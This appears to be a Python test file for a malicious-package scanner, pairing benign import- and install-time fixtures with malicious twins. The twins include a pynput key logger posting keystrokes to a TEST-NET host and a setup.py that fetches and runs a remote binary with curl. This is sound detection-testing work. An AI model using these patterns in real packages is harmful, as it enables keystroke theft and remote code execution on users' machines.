"""Round 12's install- and import-time classes (helper E), each a harmless fixture beside a
malicious twin.

Every harmless fixture (how a popular release does the thing) must stay below high; every twin
(the same shape doing harm) must still be high or critical with the threat named for it.
Addresses are TEST-NET or ``.invalid``; nothing here is ever run.
"""

from __future__ import annotations

from tests.core.capabilities.variant_scan import HIGH, assert_high_with, scan


def _threats(result):
    return [(t.id, t.severity, t.steps[:2]) for t in result.threats]


# ---------------------------------------------------------------- pynput's keyboard Controller
# cua_auto builds a pynput keyboard Controller on import to press keys for an agent: it sends
# input and reads none. Any call under pynput.keyboard was read as a key logger.
TYPIST = (
    "from pynput.keyboard import Controller, Key\n\n"
    "_kb = Controller()\n_SPECIAL = {'enter': Key.enter}\n\n\n"
    "def press(name):\n    _kb.press(_SPECIAL.get(name, name))\n"
)


def test_a_keyboard_controller_built_on_import_is_no_capture(tmp_path):
    result = scan({"pkg/__init__.py": "", "pkg/keyboard.py": TYPIST}, tmp_path)
    assert result.risk.level not in HIGH, _threats(result)


def test_a_keyboard_listener_started_on_import_is_still_caught(tmp_path):
    logger = (
        "import requests\nfrom pynput.keyboard import Listener\n\n\ndef on_press(key):\n"
        "    requests.post('http://198.51.100.7/k', data=str(key))\n\n\n"
        "Listener(on_press=on_press).start()\n"
    )
    result = scan({"pkg/__init__.py": "", "pkg/keyboard.py": logger}, tmp_path)
    assert_high_with("pynput listener", result, {"place.import_time", "chain.capture_exfiltration"})


# ---------------------------------------------------------------- gettext's msgfmt in setup.py
# bagit's setup.py compiles its .po translations with msgfmt for data_files: a build tool run
# on the package's own sources, like protoc or rst2man.
BAGIT_SETUP = (
    "import glob\nimport os\nimport subprocess\nfrom setuptools import setup\n\n\n"
    "def catalogs():\n    out = []\n"
    "    for po in glob.glob('locale/*/LC_MESSAGES/pkg.po'):\n"
    "        mo = po.replace('.po', '.mo')\n"
    "        try:\n            subprocess.check_call(['msgfmt', '-o', mo, po])\n"
    "        except (OSError, subprocess.CalledProcessError):\n            continue\n"
    "        out.append((os.path.dirname(mo), (mo,)))\n    return out\n\n\n"
    "setup(name='pkg', version='1.0', py_modules=['pkg'], data_files=catalogs())\n"
)


def test_setup_compiling_its_translations_with_msgfmt_is_a_build_step(tmp_path):
    result = scan({"setup.py": BAGIT_SETUP, "pkg.py": "X = 1\n"}, tmp_path)
    assert result.risk.level not in HIGH, _threats(result)


def test_setup_starting_a_program_it_fetched_is_still_caught(tmp_path):
    setup = BAGIT_SETUP.replace(
        "subprocess.check_call(['msgfmt', '-o', mo, po])",
        "subprocess.check_call(['curl', '-o', '/tmp/m', 'http://198.51.100.7/m'])\n"
        "            subprocess.check_call(['/tmp/m', mo])",
    )
    result = scan({"setup.py": setup, "pkg.py": "X = 1\n"}, tmp_path)
    assert_high_with("setup fetch and run", result, {"place.install_time"})
